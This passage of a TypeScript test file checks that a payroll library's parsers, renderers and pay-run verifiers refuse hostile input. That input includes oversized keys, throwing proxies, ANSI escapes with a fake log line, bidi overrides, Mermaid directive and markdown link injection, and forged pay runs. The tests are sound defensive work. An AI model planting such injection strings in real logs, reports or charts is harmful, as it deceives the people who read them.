    ['far names', (i) => `${'z'.repeat(50)}${i}`, /Use one of: .* and 380 more/],
    ['one name', () => 'nobody', /Use one of: .* and 380 more/],
  ])('A6 nearest names are bounded: %s', (_, wanted, hint) => {
    const problems = problemsOf(() => payroll.parseBook(bookOf(400, wanted)))
    expect(problems.map(({ code }) => code)).toEqual([
      ...Array.from({ length: 99 }, () => 'unknown-component'),
      'more-problems',
    ])
    expect(problems[0]?.hint.en).toMatch(hint)
    expect(messageOf(() => payroll.parseBook(bookOf(400, wanted))).length).toBeLessThan(longest)
  })

  const longKey = 'k'.repeat(1e6)
  test.each<[string, unknown, string]>([
    ['over hostile values', { [longKey]: Array(600).fill(new Date(0)) }, 'key-too-long'],
    ['in each of many parts', Array(600).fill({ [longKey]: 1 }), 'key-too-long'],
    ['of a case', { op: 'match', cases: { [longKey]: { op: 'constant' } } }, 'key-too-long'],
    [
      'on every level',
      [...Array(150)].reduce((part) => ({ ['k'.repeat(900)]: part }), new Date(0)),
      'not-plain',
    ],
  ])('A7 long keys are refused shortly: %s', (_, json, code) => {
    expect(found(() => parseFormula(json))[0]?.[0]).toBe(code)
    expect(messageOf(() => parseFormula(json)).length).toBeLessThan(longest)
  })

  test.each<[string, () => unknown]>([
    ['a million zeros', () => parseEvents(Array(1e6).fill(0))],
    [
      'many people without anything',
      () => parsePayPeople(Array.from({ length: 80_000 }, () => ({}))),
    ],
    ['many rates of one list', () => payroll.parseBook({ policies: Array(30_000).fill(0) })],
    [
      'many hostile values',
      () => parseFormula({ op: 'add', of: Array(100_000).fill(new Date(0)) }),
    ],
    [
      'many unknown keys',
      () =>
        parsePayPeople([
          Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`k${i}`, i])),
        ]),
    ],
  ])('A8 problems are listed up to 100: %s', (_, task) => {
    const problems = problemsOf(task)
    expect(problems).toHaveLength(100)
    expect(problems.at(-1)?.code).toBe('more-problems')
    expect(messageOf(task).length).toBeLessThan(longest)
  })

  /** Every parse function that is exported, each given the JSON where it wants JSON. */
  const parsers = async () => {
    const names = readdirSync('src', { withFileTypes: true }).filter((each) => each.isDirectory())
    const modules = await Promise.all(names.map(({ name }) => import(`../../src/${name}/index.ts`)))
    return modules.flatMap((exported) =>
      Object.entries(exported as Record<string, unknown>).flatMap(([name, parse]) =>
        /^parse[A-Z]/.test(name) && typeof parse === 'function'
          ? [[name, parse as (...given: unknown[]) => unknown] as const]
          : [],
      ),
    )
  }

  const hostile = fc.oneof(
    fc.jsonValue(),
    fc.constantFrom<unknown>(
      Array(20_000).fill({}),
      Array(300).fill({ [longKey]: 1 }),
      new Array(4e9),
      Object.assign([], { 3: 1 }),
      Object.fromEntries(
        Array.from({ length: 3_000 }, (_, i) => [`id\u202e\n${i}`, 'x'.repeat(9_999)]),
      ),
      Symbol('x'),
      10n ** 5_000n,
      Object.create(Object.create(null)),
      new Proxy(
        {},
        {
          ownKeys: () => {
            throw new Error('from within')
          },
        },
      ),
      [[['x'.repeat(9_999)]], '\ud83d', '\u001b[31m'],
    ),
  )
  test('A7 A8 A22 A27 every parse function refuses what is hostile shortly, on lines of its own', async () => {
    const all = await parsers()
    expect(all.length).toBeGreaterThan(50)
    fc.assert(
      fc.property(fc.constantFrom(...all), hostile, ([name, parse], json) => {
        const given =
          name === 'parseCareer'
            ? [career.framework, json]
            : name === 'parseHistory'
              ? [json, (value: unknown) => value]
              : [json]
        const message = messageOf(() => parse(...given))
        expect(message.length).toBeLessThan(longest)
        expect(message.split('\n').length).toBeLessThanOrEqual(100)
        expect(message.replaceAll('\n', '')).not.toMatch(/\p{Cc}|\p{Bidi_Control}|\p{Surrogate}/u)
      }),
      { numRuns: 200 },
    )
  })

  test.each<[string, string]>([
    ['a key', 'x\n\u001b[31mFAKE LOG LINE'],
    ['a key that turns direction', 'x\u202egnp'],
    ['half a character', 'x\ud83d'],
  ])('A22 messages show what is hidden: %s', (_, key) => {
    const message = messageOf(() => parseFormula({ op: 'constant', [key]: 1 }))
    expect(message).not.toMatch(/[^\P{Cc}\n]|\p{Bidi_Control}|\p{Surrogate}/u)
    expect(message.split('\n').every((line) => !line.startsWith('\u001b'))).toBe(true)
  })

  const told = (label: string): Explanation => ({
    label,
    value: '1.00 CNY',
    clause: label,
    how: [label],
    steps: [],
  })
  test.each([
    ['a line break', 'Bonus\nTotal pay: 99,999.00 CNY', 'Bonus␤Total pay: 99,999.00 CNY'],
    ['an escape', '\u001b[31mBonus\u0007', '\\u{1b}[31mBonus\\u{7}'],
    ['an override of direction', '\u202eYNC 00.9', '\\u{202e}YNC 00.9'],
  ])('A22 text has no line of an author’s: %s', (_, label, shown) => {
    expect(renderText(told(label))).toBe(`${shown}: 1.00 CNY [${shown}]\n  ${shown}`)
    for (const rendered of [renderMarkdown(told(label)), renderHtml(told(label))])
      expect(rendered).not.toMatch(/[^\P{Cc}\n]|\p{Bidi_Control}/u)
    expect(renderMarkdown(told(label)).split('\n')).toHaveLength(2)
  })

  test('A22 a report of laws has no line of an author’s', () => {
    const broken = { says: { en: 'a', 'zh-CN': 'b' }, rows: [{ 'x\ny': '1\u202e' }] }
    const reports = [{ law: 'bounded', of: 'p\nq', outcome: 'broken', runs: 1, broken }] as const
    expect(describeReport({ holds: false, reports }).split('\n')).toEqual([
      'p␤q: bounded: BROKEN. Pay keeps its floor and its cap.',
      '  a',
      '        x␤y',
      '  1\\u{202e}',
      '  [{"x\\ny":"1\\u{202e}"}]',
    ])
  })

  const chartOf = (label: string) => {
    const framework = parseCareerFramework({
      ...career.policy,
      positions: [{ id: 'a', label }, { id: 'b' }, { id: 'c' }, { id: 'd' }],
    })
    const { on } = { on: '2026-01-15' }
    const [, node = ''] = careerMermaid(framework, parseCareer(framework, career.json), {
      on,
      locale: 'en',
    }).split('\n')
    return node
  }
  test.each([
    [
      'a directive',
      "Lead %%{init: {'theme':'forest'}}%%",
      "Lead #37;#37;#123;init: #123;'theme':'forest'#125;#125;#37;#37;",
    ],
    ['Markdown', '`**x**` _y_ ~z~', '#96;#42;#42;x#42;#42;#96; #95;y#95; #126;z#126;'],
    ['mathematics and entities', '$$x$$ &amp; \\n', '#36;#36;x#36;#36; #38;amp#59; #92;n'],
    ['a list', '1. First', '1#46; First'],
    ['another list', '- First', '#45; First'],
    ['a line break', 'a\nb', 'a␤b'],
  ])('A20 Mermaid reads a label as text: %s', (_, label, written) => {
    expect(chartOf(label)).toBe(`  p0["${written}"]:::here`)
  })

  test.each([
    ['http://evil.com/x', 'http\\://evil\\.com/x'],
    ['https://evil', 'https\\://evil'],
    ['ftp://x', 'ftp\\://x'],
    ['www.evil.com', 'www\\.evil\\.com'],
    ['mailto:a@b.com', 'mailto:a\\@b\\.com'],
    ['at 9:30, 1/2', 'at 9:30, 1/2'],
  ])('A21 no address becomes a link: %s', (label, written) => {
    expect(renderMarkdown({ ...told('x'), label })).toMatch(`- **${written}**: `)
  })

  test.each<[string, () => unknown]>([
    [
      'a category',
      () =>
        compile(check(match('k', { a: constant('1') })))({ k: categoryColumn(['x'.repeat(1e5)]) })
          .problems(0)
          .map((each) => {
            throw new PolicyError([each])
          }),
    ],
    ['a reference', () => payroll.parseBook(bookOf(1, () => 'x'.repeat(9_000)))],
    ['an id', () => parsePayPeople(Array(2).fill({ id: 'x'.repeat(9_000), name: 'X' }))],
    ['a period', () => parsePeriod('x'.repeat(1e6))],
  ])('A23 a message quotes the beginning of a text: %s', (_, task) => {
    const message = messageOf(task)
    expect(message).toMatch(/./)
    expect(message).not.toMatch(/x{65}/)
  })

  test.each<[string, unknown, string, string]>([
    ['a million', { op: 'add', of: new Array(1e6) }, 'too-large', ''],
    ['more than memory', { op: 'add', of: new Array(4e9) }, 'too-large', ''],
    [
      'one',
      { op: 'add', of: Object.assign([], { 1: { op: 'constant', value: '1' } }) },
      'missing',
      'of[0]',
    ],
  ])('A26 places that hold nothing are counted and refused: %s', (_, json, code, path) => {
    expect(found(() => parseFormula(json))).toEqual([[code, path]])
  })

  test('A26 a list of events that holds nothing is refused', () => {
    expect(found(() => parseEvents(new Array(2)))).toEqual([
      ['missing', '[0]'],
      ['missing', '[1]'],
    ])
    expect(found(() => parseEvents(new Array(4e9)))).toHaveLength(100)
  })

  test('A27 a value is read once', () => {
    let asked = 0
    const json = {
      op: 'constant',
      unit: 'ratio',
      get value() {
        return asked++ === 0 ? '1' : 'x'.repeat(1e6)
      },
    }
    expect(parseFormula(json).expression).toEqual({ op: 'constant', unit: 'ratio', value: '1' })
    expect(asked).toBe(1)
  })

  test.each<[string, unknown]>([
    [
      'a hidden member',
      Object.create(Object.assign(Object.create(null), { op: 'constant', value: '1' })),
    ],
    [
      'a getter that throws',
      {
        get op() {
          throw new TypeError('from within')
        },
      },
    ],
    [
      'a proxy that throws',
      new Proxy(
        {},
        {
          getPrototypeOf: () => {
            throw new TypeError('from within')
          },
        },
      ),
    ],
  ])('A27 what hides or throws is not plain: %s', (_, json) => {
    expect(found(() => parseFormula(json)).map(([code]) => code)).toEqual(['not-plain'])
  })

  test.each<[string, unknown]>([
    ['a symbol', Symbol('2026')],
    ['a list in a list', [['2026-02']]],
    ['an object without toString', Object.create(null)],
    ['nothing', undefined],
    ['a number', 2026],
  ])('A27 what is no text is no period: %s', (_, name) => {
    expect(found(() => parsePeriod(name as string))).toEqual([['not-a-period', 'name']])
    expect(found(() => periodContaining(name as string, 'month'))).toEqual([['not-a-date', 'date']])
  })

  test.each(['fortnight', 'toString', undefined])('A27 %s is no kind of period', (kind) => {
    expect(found(() => periodContaining('2026-02-01', kind as 'month'))).toEqual([
      ['not-a-period-kind', 'kind'],
    ])
  })

  test('A28 long numbers are written in time', () => {
    const digits = '9'.repeat(300_000)
    expect(formatNumber(digits)).toHaveLength(399_999)
    expect(formatNumber(`-${digits}`)).toHaveLength(400_000)
    expect(formatQuantity(`1.${'0'.repeat(300_000)}1`, 'count', 'en')).toHaveLength(300_003)
    expect(formatQuantity(`1.${'0'.repeat(300_000)}`, 'count', 'en')).toBe('1')
    expect(formatNumber('1e5')).toBe('1e5')
  })

  test.each<[string, unknown, string, string]>([
    ['a date', { on: new Date(0) }, 'not-json', 'on'],
    ['nothing in a list', { a: [undefined] }, 'not-json', 'a[0]'],
    ['a place that holds nothing', [new Array(1)], 'not-json', '[0][0]'],
    ['no number', { a: { b: Number.NaN } }, 'not-json', 'a.b'],
    ['a number read inexactly', 2 ** 53, 'not-json', ''],
    ['half a character', ['\ud83d'], 'not-json', '[0]'],
    ['nothing', undefined, 'not-json', ''],
  ])('A29 no digest is of what is no JSON: %s', (_, value, code, path) => {
    expect(found(() => digestOf(value))).toEqual([[code, path]])
  })

  test('A29 digests of depth, of circles and of many references to one part end', () => {
    const nested = (times: number, around: (part: unknown) => unknown) =>
      Array.from({ length: times }).reduce<unknown>(around, 1)
    const loop: unknown[] = []
    loop.push(loop)
    for (const value of [nested(20_000, (part) => [part]), loop])
      expect(found(() => digestOf(value)).map(([code]) => code)).toEqual(['too-deep'])
    expect(found(() => digestOf(nested(50, (part) => [part, part]))).map(([code]) => code)).toEqual(
      ['too-large'],
    )
    expect(digestOf(nested(10, (part) => [part, part]))).toMatch(/^[0-9a-f]{64}$/)
  })

  test('A31 copies of the library know each other’s errors', async () => {
    vi.resetModules()
    const other = await import('../../src/formula/index.js')
    const errors = await import('../../src/problem/index.js')
    expect(errors.PolicyError).not.toBe(PolicyError)
    const wrong = () => other.parseFormula({})
    expect(wrong).toThrow(PolicyError)
    expect(wrong).toThrow(errors.PolicyError)
    expect(found(wrong)).toEqual([['missing', 'op']])
    expect(isPolicyError(new Error('no'))).toBe(false)
    const json = [{ from: '2026-01-01', value: {} }]
    expect(found(() => parseHistory(json, other.parseFormula))).toEqual([
      ['missing', '[0].value.op'],
    ])
  })

  test.each<[string, () => Column, (column: Column) => void]>([
    ['doubles', () => Float64Array.of(1, Number.NaN), (column) => (column as Float64Array).fill(1)],
    [
      'numbers from text',
      () => numberColumn(['0.01', null], 2),
      (column) => (column as { integers: Float64Array }).integers.fill(1),
    ],
    [
      'numbers that are none',
      () => numberColumn(['0.01', 'x'], 2),
      (column) => (column as unknown as { unreadable: Map<number, unknown> }).unreadable.clear(),
    ],
  ])('A32 the problems of a row stay when its column is filled anew: %s', (_, made, fill) => {
    const column = made()
    const batch = compile(check(input('sales', 'money:CNY', 2)))({ sales: column })
    const before = batch.problems(1)
    expect(before).toHaveLength(1)
    fill(column)
    expect(batch.problems(1)).toEqual(before)
    expect([batch.problems(0), batch.problems(7)]).toEqual([[], []])
  })

  test('A32 the problems of categories and of divisions stay too', () => {
    const region = match('region', { north: constant('1') })
    const codes = categoryColumn(['north', 'south'])
    const byRegion = compile(check(region))({ region: codes })
    ;(codes.codes as Int32Array).fill(0)
    expect(byRegion.problems(1).map(({ code }) => code)).toEqual(['unknown-category'])
    const sales = input('sales', 'money:CNY', 2)
    const share = divide(sales, sales, { places: 2, rounding: 'half-up' })
    const integers = BigInt64Array.of(1n, 0n)
    const divided = compile(check(share))({ sales: integers })
    integers.fill(1n)
    expect(divided.problems(1).map(({ code }) => code)).toEqual(['division-by-zero'])
  })

  const run = compile(check(input('sales', 'money:CNY', 2)))
  async function* slow() {
    yield { sales: Float64Array.of(1) }
    await new Promise(() => {})
  }
  const stopped = async (signal: AbortSignal | { aborted: boolean }) => {
    for await (const batch of streamBatches(run, slow(), { signal })) expect(batch.rows).toBe(1)
  }
  test('A33 a signal stops a stream that waits for its source', async () => {
    await expect(stopped(AbortSignal.timeout(20))).rejects.toMatchObject({ name: 'TimeoutError' })
    const controller = new AbortController()
    setTimeout(() => controller.abort(), 5)
    await expect(stopped(controller.signal)).rejects.toMatchObject({ name: 'AbortError' })
    await expect(stopped({ aborted: true })).rejects.toMatchObject({ name: 'AbortError' })
  })

  const depthOf = (depth: number): Explanation =>
    Array.from({ length: depth }).reduce<Explanation>(
      (step) => ({ ...told('x'), steps: [step] }),
      told('x'),
    )
  test.each([renderText, renderMarkdown, renderHtml])(
    'A36 explanations are rendered to a depth: %o',
    (render) => {
      expect(render(depthOf(499))).toContain('x')
      expect(found(() => render(depthOf(500)))).toEqual([['too-deep', '']])
      expect(found(() => render(depthOf(20_000)))).toEqual([['too-deep', '']])
      const wide = Array.from({ length: 40 }).reduce<Explanation>(
        (step) => ({ ...told('x'), steps: [step, step] }),
        told('x'),
      )
      expect(found(() => render(wide))).toEqual([['too-many-steps', '']])
    },
  )

  test('A36 a tree that nobody checked is folded to a depth and a size', () => {
    const count = { input: () => 1, add: ({ of }: { of: readonly number[] }) => of.length } as never
    const nested = (levels: number, around: (part: Expression) => Expression) =>
      Array.from({ length: levels }).reduce<Expression>(around, input('x', 'ratio', 0))
    expect(
      fold(
        nested(3, (part) => add(part, part)),
        count,
      ),
    ).toBe(2)
    expect(
      found(() =>
        fold(
          nested(20_000, (part) => add(part)),
          count,
        ),
      ),
    ).toEqual([['too-deep', '']])
    expect(
      found(() =>
        fold(
          nested(20, (part) => add(part, part)),
          count,
        ),
      ),
    ).toEqual([['too-many-nodes', '']])
  })

  test.each([
    ['an override of direction', 'ann\u202e', 'not-a-plain-id'],
    ['a mark of direction', '\u200fann', 'not-a-plain-id'],
    ['a control', 'ann\u0000', 'not-a-plain-id'],
    ['a line break', 'ann\nbob', 'not-a-plain-id'],
    ['half a character', 'ann\ud83d', 'broken-text'],
  ])('A37 %s is no part of an id', (_, id, code) => {
    const person = { id, name: 'Ann', employment: [{ from: '2026-01-01' }], attributes: {} }
    expect(found(() => parsePayPeople([person]))[0]).toEqual([code, '[0].id'])
    expect(found(() => parseEvents([{ kind: 'order', id }]))[0]).toEqual([code, '[0].id'])
    expect(found(() => parseCareer(career.framework, { ...career.json, id }))).toEqual([
      [code, 'id'],
    ])
  })

  describe('A30 a column that the table lacks is an error', { timeout: 60_000 }, () => {
    const formula = check(add(input('a', 'count', 0), input('b', 'count', 0)))
    const of = (sql: string) =>
      duckdb(
        `DROP TABLE IF EXISTS numbers; CREATE TABLE numbers AS SELECT * FROM (VALUES (10, 2, 'x')) AS t(a, b, id); SELECT * FROM (${sql}) AS s`,
      )

    test.each(['x0', 'X0', 'i0', 'fault', 'k0'])('%s', async (b) => {
      const sql = selectSql(formula, {
        dialect: 'duckdb',
        from: 'numbers',
        columns: { b },
        keep: ['id'],
      })
      await expect(of(sql)).rejects.toThrow(/column/)
    })

    test.each(['key', 'given_weight', 'p0'])('%s of a pool', async (weight) => {
      const sql = allocateSql({
        dialect: 'duckdb',
        from: 'numbers',
        id: 'id',
        weight,
        total: 'a',
        pools: ['b'],
        ties: 'id',
      })
      await expect(of(sql)).rejects.toThrow(/column/)
    })

    test.each([
      ['a name', 'b'],
      ['a name in its table', ['numbers', 'b']],
      ['a name in its table and schema', ['main', 'numbers', 'b']],
    ])('and one that it has is read: %s', async (_, b) => {
      const sql = selectSql(formula, {
        dialect: 'duckdb',
        from: ['main', 'numbers'],
        columns: { b },
      })
      expect(await of(sql)).toEqual([['12', null]])
    })

    test('as is a member of a column', async () => {
      const sql = selectSql(formula, {
        dialect: 'duckdb',
        from: 'nested',
        columns: { b: ['s', 'b'] },
      })
      await duckdb("CREATE OR REPLACE TABLE nested AS SELECT 10 AS a, {'b': 2} AS s")
      expect(await of(sql)).toEqual([['12', null]])
    })
  })
})

describe('plans: conditions that lint cannot crash on', () => {
  const policyWith = (more: Partial<PlanPolicy>) => ({
    id: 'p',
    currency: 'CNY',
    period: 'month',
    measure: { sum: 'sales' },
    linked: [
      { sum: 'sales', as: 'a' },
      { sum: 'sales', as: 'b' },
      { sum: 'sales', as: 'c' },
    ],
    tiers: { kind: 'flat', rate: '0.01' },
    ...more,
  })
  const condition = (kpi: string, of: string) => ({ kpi, of, atLeast: '0.5' })

  test.each<[string, Partial<PlanPolicy>, string]>([
    ['a kicker', { kickers: [{ ...condition('sales', 'sales'), pays: '7' }] }, 'kickers[0].of'],
    ['a gate', { gate: condition('sales', 'sales') }, 'gate.of'],
    [
      'the condition of an accelerator',
      {
        quota: 'quota',
        accelerator: { steps: [{ from: '1', factor: '2' }], when: condition('a', 'a') },
      },
      'accelerator.when.of',
    ],
    ['a KPI that is none of the measures', { gate: condition('quality', 'quality') }, 'gate.of'],
  ])('A34 %s that is asked as a part of itself is refused', (_, more, path) => {
    expect(found(() => parsePlan(policyWith(more)))).toEqual([['of-itself', path]])
  })

  test('A34 says in both languages what to do', () => {
    const problems = problemsOf(() => parsePlan(policyWith({ gate: condition('sales', 'sales') })))
    expect(describeProblems(problems)).toBe(
      'gate.of: "sales" is compared with itself. Name the input of its quota, or another measure; leave "of" out to ask for an amount.',
    )
    expect(describeProblems(problems, 'zh-CN')).toBe(
      'gate.of：“sales” 与自身比较。请写明其目标的输入名称，或另一业绩口径；若要求的是金额，请删去“of”。',
    )
  })

  const names = ['sales', 'a', 'b', 'c'] as const
  const pairs = names.flatMap((kpi) => names.filter((of) => of !== kpi).map((of) => [kpi, of]))

  test.each<[string, readonly (readonly string[])[]]>([
    [
      'a circle of two',
      [
        ['a', 'b'],
        ['b', 'a'],
      ],
    ],
    [
      'a circle of three',
      [
        ['a', 'b'],
        ['b', 'c'],
        ['c', 'a'],
      ],
    ],
    [
      'a circle through the measure',
      [
        ['sales', 'a'],
        ['a', 'sales'],
      ],
    ],
    [
      'a chain, the last asked first',
      [
        ['c', 'b'],
        ['b', 'a'],
        ['a', 'sales'],
      ],
    ],
    [
      'a chain, the first asked first',
      [
        ['a', 'b'],
        ['b', 'c'],
      ],
    ],
    ['each of each', pairs],
  ])('A34 lint looks at measures of measures: %s', (_, asked) => {
    const kickers = asked.map(([kpi, of]) => ({
      ...condition(kpi as string, of as string),
      pays: '7',
    }))
    const plan = parsePlan(policyWith({ kickers }))
    expect(lintPlan(plan).map(({ code }) => code)).toContain('missed-condition')
  })

  test('A34 lint looks at a measure that is asked for twice, once as a part of the measure', () => {
    const plan = parsePlan(
      policyWith({
        gate: { kpi: 'a', atLeast: '500' },
        kickers: [{ ...condition('a', 'sales'), pays: '7' }],
      }),
    )
    expect(lintPlan(plan).map(({ code, path }) => `${code} ${path}`)).toContain(
      'missed-condition gate',
    )
  })

  test.each(['toString', 'valueOf', 'hasOwnProperty'])(
    'A34 lint reads no figure that every object inherits: %s',
    (name) => {
      const asked = [condition('sales', name), { kpi: `${name}_`, atLeast: '0.5' }]
      const kickers = asked.map((each) => ({ ...each, pays: '7' }))
      const found = lintPlan(parsePlan(policyWith({ kickers, gate: { kpi: 'x', atLeast: '1' } })))
      expect(found.map(({ code, path }) => `${code} ${path}`)).toContain('cliff kickers[0]')
    },
  )
})

describe('statistics: bounded work, and no figure told by subtraction', () => {
  const rated = (raters: number, each: number) =>
    Array.from({ length: raters }, (_, subject) =>
      Array.from({ length: each }, (_, k) => ({
        rater: `r${(subject * 7 + k * k * 13) % raters}`,
        subject: `s${subject}`,
        score: `${1 + ((subject * 5 + k * 3) % 5)}`,
      })),
    ).flat()

  test.each([800, 1600])('A13 %d raters are corrected in as many steps as they need', (raters) => {
    const { raters: found, connected } = correctRatings(policy(), rated(raters, 4))
    expect(connected).toBe(true)
    expect(found).toHaveLength(raters)
    const sum = found.reduce((total, { leniency }) => total + Number(leniency), 0)
    expect(sum).toBeCloseTo(0, 1)
  })

  test('A13 what raters add is taken off to the last place, many as they are', () => {
    // Scores that follow the model exactly: the subject's level plus the rater's leniency.
    const leniencyOf = (rater: number) => ((rater % 5) - 2) / 4
    const verdicts = rated(500, 5).map((verdict) => {
      const [rater, subject] = [Number(verdict.rater.slice(1)), Number(verdict.subject.slice(1))]
      return { ...verdict, score: String(3 + (subject % 3) / 2 + leniencyOf(rater)) }
    })
    const { ratings } = correctRatings(policy({ scale: { minimum: '0', maximum: '9' } }), verdicts)
    for (const { subject, corrected } of ratings)
      expect(corrected).toBe((3 + (Number(subject.slice(1)) % 3) / 2).toFixed(4))
  })

  test.each([400, 800, 1200])('A13 the rate of %d flows is found', (years) => {
    const flows = Array.from({ length: years }, (_, i) => (i === 0 ? '-60000' : `${400 + (i % 7)}`))
    expect(internalRate(flows).kind).toBe('rate')
  })

  const grades = (women: Readonly<Record<string, readonly string[]>>): readonly Person[] =>
    Object.entries(women).flatMap(([grade, pays]) => [
      ...paid('women', pays, { grade }),
      ...paid('men', twelve, { grade }),
    ])
  const twelve = Array.from({ length: 12 }, (_, i) => `${20 + i}.00`)
  const more = [...twelve, '40.00', '41.00']

  test.each([
    [{ A: twelve, B: ['47.89'] }, [true, true]],
    [{ A: twelve, B: ['47.89'], C: more }, [true, true, false]],
    [{ A: twelve, B: ['47.89'], C: ['50.00', '51.00'] }, [true, true, true]],
    [
      { A: twelve, B: twelve.slice(0, 5), C: twelve.slice(0, 6), D: more },
      [false, true, true, false],
    ],
    [{ A: twelve, C: more }, [false, false]],
  ])('A14 of women %j no category is told by the others and the whole', (women, hidden) => {
    const report = directiveReport({
      people: grades(women).map(({ amounts, ...person }) => ({
        ...person,
        amounts: { base: amounts['hourly'] as string, bonus: '1.00' },
      })),
      comparison: { ...comparison, minimum: 10 },
      base: ['base'],
      variable: ['bonus'],
      category: 'grade',
    })
    for (const key of ['pay', 'base', 'variable'] as const)
      expect(report.g.map((line) => isSuppressed(line[key]))).toEqual(hidden)
    expect(report.g.map(({ fivePercent }) => typeof fivePercent === 'object')).toEqual(hidden)
  })

  test('A14 what is hidden of each group is of nobody, or of the minimum', () => {
    const sizes = fc.array(fc.tuple(fc.nat({ max: 8 }), fc.nat({ max: 8 })), {
      minLength: 1,
      maxLength: 6,
    })
    fc.assert(
      fc.property(sizes, fc.integer({ min: 1, max: 5 }), (lines, minimum) => {
        const people = lines.flatMap(([men, women], i) => {
          const of = (size: number) => Array.from({ length: size }, (_, k) => `${10 + k}.00`)
          return [
            ...paid('men', of(men), { grade: `g${i}` }),
            ...paid('women', of(women), { grade: `g${i}` }),
          ]
        })
        fc.pre(new Set(people.map(({ attributes }) => attributes['sex'])).size === 2)
        const { g } = directiveReport({
          ...{ people, base: ['hourly'], variable: [], category: 'grade' },
          comparison: { ...comparison, minimum },
        })
        const shown = new Set(
          g.filter(({ pay }) => !isSuppressed(pay)).map(({ category }) => category),
        )
        for (const sex of ['men', 'women']) {
          const hidden = people.filter(
            ({ attributes }) => attributes['sex'] === sex && !shown.has(attributes['grade'] ?? ''),
          ).length
          expect(hidden === 0 || hidden >= minimum || shown.size === 0).toBe(true)
        }
      }),
    )
  })

  test('A14 no line of another table is told by the others and the whole', () => {
    const people = grades({ A: twelve, B: ['47.89', '1.00'], C: more })
    const taken = { ...comparison, minimum: 10 }
    const parts = kitagawa({ people, pay: hourly, comparison: taken, category: 'grade' })
    if (isSuppressed(parts)) throw new Error('suppressed')
    expect(parts.categories.map(isSuppressed)).toEqual([true, true, false])
    const { groups } = theil({ people, pay: hourly, by: 'grade', minimum: 15 })
    expect(groups.map(isSuppressed)).toEqual([true, true, false])
    const shares = contributionShares({
      ...{ people, pay: hourly, department: 'grade', direct: ['hourly'], indirect: [] },
      minimum: 15,
    })
    expect(shares.map(isSuppressed)).toEqual([true, true, false])
  })

  test('A14 a mean over everybody does not tell what one of them receives', () => {
    const people = grades({ A: twelve }).map((person, i) => ({
      ...person,
      amounts: { bonus: i === 0 || person.attributes['sex'] === 'men' ? '480.00' : '0' },
    }))
    const gapsOf = (minimum: number) =>
      componentGaps({ people, components: ['bonus'], comparison: { ...comparison, minimum } })[0]
    expect(gapsOf(10)?.everyone.mean).toEqual({ suppressed: 'complementary', minimum: 10 })
    expect(gapsOf(10)?.recipients.mean).toEqual({ suppressed: 'small-group', minimum: 10 })
    expect(gapsOf(1)?.everyone.mean).toMatchObject({ compared: '40.000000' })
    // Where all are too few, that is the reason.
    expect(gapsOf(13)?.everyone.mean).toEqual({ suppressed: 'small-group', minimum: 13 })
  })
})

describe('payroll: a chain of runs proves what was paid', () => {
  const of = payBookOf([payBase], { currency: 'CNY', retro: 0 })
  const people = parsePayData({ people: [payLi(), { ...payLi(), id: 'wu' }] })
  const settled = (period: string, before: PayRun | 'first') =>
    settlePay(of, people, { period, before })
  const january = settled('2026-01', 'first')
  const february = settled('2026-02', january)
  const march = settled('2026-03', february)
  const head = march.digest
  /** A run that was changed, and its digest made anew. */
  const forged = (run: PayRun, change: object): PayRun => {
    const { digest: _, ...content } = { ...run, ...change }
    return { ...content, digest: digestOf(content) }
  }
  const greedy = (run: PayRun, change: (line: PayLine) => object) => ({
    lines: run.lines.map((line, i) => (i === 0 ? { ...line, ...change(line) } : line)),
  })
  const told = (runs: readonly PayRun[], options: Parameters<typeof verifyRuns>[1] = {}) =>
    verifyRuns(runs, options).map(({ code, path }) => [code, path])

  test.each<[string, PayRun, string]>([
    ['January again pays nothing more', january, '2026-01'],
    ['nor does March, once more', march, '2026-03'],
  ])('A4 %s', (_, before, period) => {
    const again = settled(period, before)
    expect(again.lines.map(({ amount }) => amount)).toEqual(['0.00', '0.00'])
  })

  test.each<[string, PayRun, string]>([
    ['January with March before it', march, '2026-01'],
    ['February with March before it', march, '2026-02'],
    ['March with January before it', january, '2026-03'],
  ])('A4 %s is refused', (_, before, period) => {
    expect(found(() => settled(period, before))[0]).toEqual(['not-next-period', 'period'])
  })

  test('A4 a run before in another currency is refused', () => {
    const yen = forged(january, { currency: 'JPY' })
    expect(found(() => settled('2026-02', yen))).toEqual([
      ['before-in-currency', 'before.currency'],
    ])
  })

  test('A4 a chain with a month left out or twice is told', () => {
    expect(told([january, march])[0]).toEqual(['other-before', '[1].before'])
    expect(told([january, january])).toEqual([['repeated-run', '[1].digest']])
    expect(told([january, february, march], { head })).toEqual([])
  })

  test.each<[string, (line: PayLine) => object, string]>([
    ['an amount', () => ({ amount: '99999.00' }), 'lines[0].amount'],
    ['what is due', () => ({ entitled: '99999.00', amount: '99999.00' }), 'lines[0].entitled'],
    ['who is paid', () => ({ person: 'ghost' }), 'lines[0]'],
  ])('A17 %s of a run that was tampered with is laundered by nothing', (_, change, path) => {
    const whole = forged(february, greedy(february, change))
    const broken = { ...february, ...greedy(february, change) }
    expect(found(() => settled('2026-03', broken))).toEqual([['changed-run', 'before.digest']])
    expect(verifyRun(of, people, whole, { before: january })[0]?.path).toBe(path)
    expect(verifyRun(of, people, broken, { before: january })[0]?.path).toBe('digest')
    expect(told([january, whole], { head: february.digest }).length).toBeGreaterThan(0)
    expect(told([january, whole])[0]?.[1]).toMatch(/^\[1\]\./)
  })

  test.each<[string, (run: PayRun) => object, string]>([
    ['what was settled', ({ state }) => ({ state: { ...state, settled: [] } }), 'state.settled'],
    [
      'what is left over of a leaver',
      ({ lines: [line] }) => ({
        leftOver: [{ component: 'base', owner: { person: line?.person }, value: '500.00' }],
      }),
      'leftOver',
    ],
  ])('A17 %s in a run that was made anew is told', (_, change, path) => {
    const anew = forged(february, change(february))
    expect(verifyRun(of, people, anew, { before: january })[0]?.path).toMatch(path)
    expect(told([january, anew], { head: february.digest }).length).toBeGreaterThan(0)
  })

  test('A18 a chain tells what digests alone do not', () => {
    expect(told([january, february], { head })).toEqual([['not-the-head', '[1].digest']])
    expect(told([february, march], { head })).toEqual([['not-the-first', '[0].before']])
    expect(told([february, march], { head, root: january.digest })).toEqual([
      ['not-the-root', '[0].digest'],
    ])
    const other = settlePay(of, people, { period: '2026-02', before: january, only: ['li'] })
    expect(told([january, february, other])[0]).toEqual(['forked-chain', '[2].before'])
    const twice = forged(february, { lines: [...february.lines, february.lines[0]] })
    expect(told([january, twice])).toEqual([['repeated-line', '[1].lines[2]']])
    expect(told([february, january])[0]).toEqual(['not-the-first', '[0].before'])
    const anew = forged(march, { late: [{ key: 'made up', period: '2026-01' }] })
    expect(told([january, february, anew])).toEqual([])
